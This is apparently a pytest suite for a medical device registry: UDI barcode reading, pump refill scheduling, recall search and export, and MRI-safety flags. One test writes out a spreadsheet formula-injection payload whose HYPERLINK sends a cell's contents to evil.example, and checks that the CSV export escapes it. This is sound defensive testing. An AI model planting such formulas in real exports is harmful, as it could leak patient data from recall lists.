"""The device registry through HTTP: UDI entry, refills and their next due date, status changes
that are refused, recall search and the MRI flag."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

from sqlalchemy import select

from backoffice.audit.models import AuditEvent
from backoffice.core.extensions import db
from backoffice.devices.models import Device, PumpRefill

from .browser_form import form_values

TODAY = date.today()
HRI = "(01)00643169001763(17)280131(10)LOT123(21)SN456"
GS = chr(29)
RAW = f"01006431690017631728013110LOT123{GS}21SN456"
NEW_PUMP = {"kind": "pump", "manufacturer": "Medtronic", "model": "SynchroMed II 40 mL", "gtin": "00643169001763",
            "lot": "LOT777", "serial": "SN900", "expiry": "2028-01-31", "implanted_on": TODAY.isoformat(),
            "mri_conditional": "y", "reservoir_ml": "40", "device_model_id": "", "physician_id": "",
            "appointment_id": "", "replaces_id": "", "trial_id": "", "site": "", "notes": "", "udi": ""}


def value_of(html: str, name: str) -> str:
    tag = re.search(rf'<input[^>]*name="{name}"[^>]*>', html)
    assert tag, name
    found = re.search(r'value="([^"]*)"', tag.group(0))
    return found.group(1) if found else ""


def refill(**changes: str) -> dict[str, str]:
    return {"refilled_on": TODAY.isoformat(), "office_id": "1", "drug": "Morphine", "concentration_mg_ml": "10",
            "daily_dose_mg": "5", "withdrawn_ml": "3", "added_ml": "40", "alarm_ml": "2", "stability_days": "90",
            "margin_days": "7", "alarm_note": "", "notes": "", **changes}


def test_a_pasted_udi_fills_gtin_expiry_lot_serial_and_the_model_from_the_catalog(signed_in):
    for text in (HRI, RAW):
        # As a browser sends it: every field, the empty ones empty.
        blank_form = {**{name: "" for name in NEW_PUMP}, "kind": "pump", "implanted_on": TODAY.isoformat()}
        page = signed_in("nurse").post("/patients/2/devices/new", data={**blank_form, "udi": text,
                                                                          "read_udi": "Read barcode"})
        html = page.get_data(as_text=True)
        assert page.status_code == 200, text
        assert (value_of(html, "gtin"), value_of(html, "lot"), value_of(html, "serial")) == (
            "00643169001763", "LOT123", "SN456")
        assert value_of(html, "expiry") == "2028-01-31"
        assert value_of(html, "model") == "SynchroMed II 40 mL" and value_of(html, "reservoir_ml") == "40.00"


def test_a_udi_with_a_wrong_check_digit_is_refused_next_to_the_field_and_nothing_is_saved(signed_in, app):
    page = signed_in("nurse").post("/patients/2/devices/new", data={
        "udi": HRI.replace("1763", "1764"), "read_udi": "Read barcode"})
    html = page.get_data(as_text=True)
    assert page.status_code == 400
    assert re.search(r'name="udi"[^>]*is-invalid|is-invalid[^>]*name="udi"', html)
    assert "check digit" in html
    with app.app_context():
        assert db.session.scalars(select(Device)).first() is None


def read_then_save(client, udi: str, **changes: str):
    """As a nurse with a scanner does it: the scan (ending with Enter) reads the barcode, then the
    form the page shows, barcode box included, is saved with `changes` made by hand."""
    blank_form = {**{name: "" for name in NEW_PUMP}, "kind": "pump", "implanted_on": TODAY.isoformat()}
    read = client.post("/patients/2/devices/new", data={**blank_form, "udi": udi, "read_udi": "Read barcode"})
    assert read.status_code == 200
    shown = form_values(read.get_data(as_text=True))
    return client.post("/patients/2/devices/new", data={**shown, "site": "Right lower abdomen", **changes,
                                                        "submit": "Save device"})


def test_a_raw_scan_with_group_separators_is_read_then_saved_without_clearing_the_barcode_box(signed_in, app):
    for udi in (RAW, RAW.replace(GS, "<GS>")):
        saved = read_then_save(signed_in("nurse"), udi)
        assert saved.status_code == 302, saved.get_data(as_text=True)
    with app.app_context():
        devices = db.session.scalars(select(Device).order_by(Device.id)).all()
        assert [(d.gtin, d.lot, d.serial, d.expiry, d.model) for d in devices] == 2 * [
            ("00643169001763", "LOT123", "SN456", date(2028, 1, 31), "SynchroMed II 40 mL")]


def test_the_barcode_box_holds_group_separators_but_no_other_control_character(signed_in, app):
    refused = signed_in("nurse").post("/patients/2/devices/new", data={**NEW_PUMP, "udi": RAW.replace(GS, "\x07")})
    assert refused.status_code == 400
    assert "Remove the control characters." in refused.get_data(as_text=True)
    elsewhere = signed_in("nurse").post("/patients/2/devices/new", data={**NEW_PUMP, "notes": f"a{GS}b"})
    assert elsewhere.status_code == 400 and "Remove the control characters." in elsewhere.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalars(select(Device)).first() is None


def test_saving_fills_empty_fields_from_the_barcode_and_refuses_a_field_typed_otherwise(signed_in, app):
    nurse = signed_in("nurse")
    conflict = read_then_save(nurse, RAW, lot="LOT999")
    html = conflict.get_data(as_text=True)
    assert conflict.status_code == 400
    assert "The scanned barcode says LOT123: read the barcode again, or clear the barcode box" in html
    assert re.search(r'name="lot"[^>]*is-invalid|is-invalid[^>]*name="lot"', html)
    filled = nurse.post("/patients/2/devices/new", data={**NEW_PUMP, "udi": RAW, "lot": "", "serial": ""})
    assert filled.status_code == 302
    unreadable = nurse.post("/patients/2/devices/new", data={**NEW_PUMP, "udi": "(01)00643169001764"})
    assert unreadable.status_code == 400
    assert "To save without it, clear this box." in unreadable.get_data(as_text=True)
    with app.app_context():
        [device] = db.session.scalars(select(Device)).all()
        assert (device.lot, device.serial) == ("LOT123", "SN456")


def test_a_nurse_records_a_pump_and_its_refill_and_sees_the_next_due_date(signed_in, app):
    client = signed_in("nurse")
    created = client.post("/patients/2/devices/new", data=NEW_PUMP)
    assert created.status_code == 302
    device_url = created.location
    saved = client.post(f"{device_url}/refills/new", data=refill(daily_dose_mg="5"), follow_redirects=True)
    due = TODAY + timedelta(days=69)   # (40 - 2) / 0.5 = 76 days, less the 7-day margin
    assert f"Next refill due {due:%m/%d/%Y}" in saved.get_data(as_text=True)
    second = client.post(f"{device_url}/refills/new", data=refill(daily_dose_mg="3", withdrawn_ml="30"),
                         follow_redirects=True)
    html = second.get_data(as_text=True)
    assert f"Next refill due {TODAY + timedelta(days=83):%m/%d/%Y}" in html   # 90 days' stability caps it
    assert "differs from the expected 40 mL" in html   # filled to 40 mL today, only 30 came out
    with app.app_context():
        assert [r.mismatch for r in db.session.scalars(select(PumpRefill).order_by(PumpRefill.id))] == [False, True]


def test_an_overfill_is_refused_next_to_the_volume_added(signed_in, one_device, app):
    response = signed_in("nurse").post(f"/devices/{one_device}/refills/new", data=refill(added_ml="41"))
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "would overfill it" in html
    assert re.search(r'name="added_ml"[^>]*is-invalid|is-invalid[^>]*name="added_ml"', html)
    with app.app_context():
        assert db.session.scalars(select(PumpRefill)).first() is None


def test_an_explanted_pump_cannot_be_explanted_again_or_refilled(signed_in, one_device, app):
    client = signed_in("physician")
    explant = {"explanted_on": TODAY.isoformat(), "reason": "Infection", "version": "1"}
    assert client.post(f"/devices/{one_device}/explant", data=explant).status_code == 302
    again = client.post(f"/devices/{one_device}/explant", data={**explant, "version": "2"}, follow_redirects=True)
    assert "already explanted; it cannot be explanted again" in again.get_data(as_text=True)
    refused = client.post(f"/devices/{one_device}/refills/new", data=refill(), follow_redirects=True)
    assert "a refill cannot be recorded for it" in refused.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalars(select(PumpRefill)).first() is None
        assert db.session.get(Device, one_device).status == "explanted"


def test_a_recall_search_by_lot_lists_exactly_the_patients_with_an_active_device_of_that_lot(signed_in, one_device,
                                                                                            app):
    nurse = signed_in("nurse")
    assert nurse.post("/patients/3/devices/new", data={**NEW_PUMP, "lot": "LOT123"}).status_code == 302
    assert nurse.post("/patients/4/devices/new", data={**NEW_PUMP, "lot": "LOT999"}).status_code == 302
    explanted = nurse.post("/patients/5/devices/new", data={**NEW_PUMP, "lot": "LOT123"}).location
    nurse.post(f"{explanted}/explant", data={"explanted_on": TODAY.isoformat(), "reason": "Failed", "version": "1"})
    with app.app_context():
        from backoffice.models import Patient
        mrns = {p.id: p.mrn for p in db.session.scalars(select(Patient))}
    manager = signed_in("manager")
    html = manager.get("/devices/recall?lot=LOT123").get_data(as_text=True)
    assert "2 active devices" in html
    assert f"MRN {mrns[1]}" in html and f"MRN {mrns[3]}" in html
    assert f"MRN {mrns[4]}" not in html and f"MRN {mrns[5]}" not in html
    export = manager.get("/devices/recall?lot=LOT123&export=csv")
    assert export.mimetype == "text/csv"
    assert sorted(line.split(",")[0] for line in export.get_data(as_text=True).splitlines()[1:]) == sorted(
        [mrns[1], mrns[3]])
    with app.app_context():
        events = [e.action for e in db.session.scalars(select(AuditEvent)
                                                       .where(AuditEvent.entity_type == "device_recall")
                                                       .order_by(AuditEvent.id))]
    assert events == ["search", "export"]


def test_a_recall_export_writes_a_formula_typed_into_a_device_as_text(signed_in):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    nurse = signed_in("nurse")
    assert nurse.post("/patients/3/devices/new",
                      data={**NEW_PUMP, "manufacturer": formula, "lot": "LOTX1", "serial": "+SN1"}).status_code == 302
    export = signed_in("manager").get("/devices/recall?lot=LOTX1&export=csv")
    [row] = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert row["Manufacturer"] == "'" + formula
    assert row["Serial"] == "'+SN1"
    assert row["Implanted"] == TODAY.strftime("%m/%d/%Y")


def test_an_implant_that_is_not_mri_conditional_flags_the_patient(signed_in):
    nurse = signed_in("nurse")
    assert "MRI unsafe" not in nurse.get("/patients/2").get_data(as_text=True)
    unsafe = {**NEW_PUMP, "kind": "scs_generator", "model": "Precision Plus (legacy)", "reservoir_ml": ""}
    del unsafe["mri_conditional"]
    assert nurse.post("/patients/2/devices/new", data=unsafe).status_code == 302
    assert "MRI unsafe" in signed_in("scheduler").get("/patients/2").get_data(as_text=True)


def test_calendar_entries_of_a_patient_with_an_mri_unsafe_implant_carry_the_flag(signed_in, app, one_appointment):
    from zoneinfo import ZoneInfo

    from backoffice.models import Appointment

    with app.app_context():
        appointment = db.session.get(Appointment, one_appointment)
        day = appointment.starts_at.astimezone(ZoneInfo("America/New_York")).date()
        patient_id = appointment.patient_id
    calendar = f"/offices/annapolis/calendar?date={day.isoformat()}"
    scheduler = signed_in("scheduler")
    assert "MRI unsafe" not in scheduler.get(calendar).get_data(as_text=True)
    unsafe = {**NEW_PUMP, "kind": "scs_generator", "model": "Precision Plus (legacy)", "reservoir_ml": ""}
    del unsafe["mri_conditional"]
    assert signed_in("nurse").post(f"/patients/{patient_id}/devices/new", data=unsafe).status_code == 302
    assert "MRI unsafe" in scheduler.get(calendar).get_data(as_text=True)
    assert "MRI unsafe" in scheduler.get(f"{calendar}&view=week").get_data(as_text=True)
    for page in (f"/offices/annapolis/board?date={day.isoformat()}",
                 f"/offices/annapolis/day-sheet?date={day.isoformat()}", f"/appointments/{one_appointment}"):
        assert "MRI unsafe" in scheduler.get(page).get_data(as_text=True), page


def test_the_patient_timeline_shows_implants_explants_and_the_scs_trial_with_its_decision(signed_in, one_device):
    client = signed_in("physician")
    client.post(f"/devices/{one_device}/explant", data={"explanted_on": TODAY.isoformat(), "reason": "Infection",
                                                       "version": "1"})
    client.post("/devices/trials/1", data={"pain_reduction_percent": "65", "ended_on": TODAY.isoformat(),
                                           "decision": "implant", "decided_on": TODAY.isoformat(), "version": "1"})
    html = client.get("/patients/1").get_data(as_text=True)
    timeline = html[html.index('id="timeline-heading"'):]
    assert re.search(r"Intrathecal pump: Medtronic SynchroMed II 40 mL</a>\s*· implanted", timeline)
    assert re.search(r"SynchroMed II 40 mL</a>\s*· explanted <span class=\"text-muted\">\(Infection\)", timeline)
    assert "SCS trial started</a>, planned to end" in timeline
    assert "SCS trial decision</a>: proceed to permanent implant (65% less target pain)" in timeline
    assert timeline.index("explanted") < timeline.index("· implanted")   # newest first
    assert "SCS trial" not in signed_in("scheduler").get("/patients/1").get_data(as_text=True)


def test_a_model_an_admin_adds_to_the_catalog_fills_the_device_form_from_its_scanned_gtin(signed_in):
    admin = signed_in("admin")
    added = admin.post("/admin/device-models/new", data={
        "manufacturer": "Abbott", "model": "Eterna", "kind": "scs_generator", "gtin": "00614141000098",
        "mri_conditional": "y", "rechargeable": "y", "reservoir_ml": "", "active": "y"}, follow_redirects=True)
    assert "Added Abbott Eterna to the catalog." in added.get_data(as_text=True)
    blank_form = {**{name: "" for name in NEW_PUMP}, "kind": "pump", "implanted_on": TODAY.isoformat()}
    page = signed_in("nurse").post("/patients/2/devices/new", data={
        **blank_form, "udi": "(01)00614141000098(10)A1(21)B2", "read_udi": "Read barcode"})
    html = page.get_data(as_text=True)
    assert (value_of(html, "manufacturer"), value_of(html, "model")) == ("Abbott", "Eterna")
    assert re.search(r'<option selected value="scs_generator">|<option value="scs_generator" selected>', html)
